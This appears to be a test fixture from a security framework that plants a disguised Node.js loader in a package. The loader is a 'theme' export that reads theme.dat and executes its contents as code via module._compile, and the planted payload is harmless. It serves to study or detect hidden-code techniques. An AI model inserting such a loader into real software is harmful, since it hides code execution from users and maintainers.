# SPDX-License-Identifier: Apache-2.0
"""A file of data is compiled by the method of modules, which every module object has."""

ATTACK = "T1059.007"
LANGUAGE = "node"
CODE = """\
;exports.theme = () => {
  const text = require('fs').readFileSync(__dirname + '/theme.dat', 'utf8');
  return Object.getPrototypeOf(module)._compile.call(module, text, 'theme');
};
"""


def poison(layer):
    layer.append(CODE)
    layer.inside("theme.dat", b"module.exports = 1;\n")
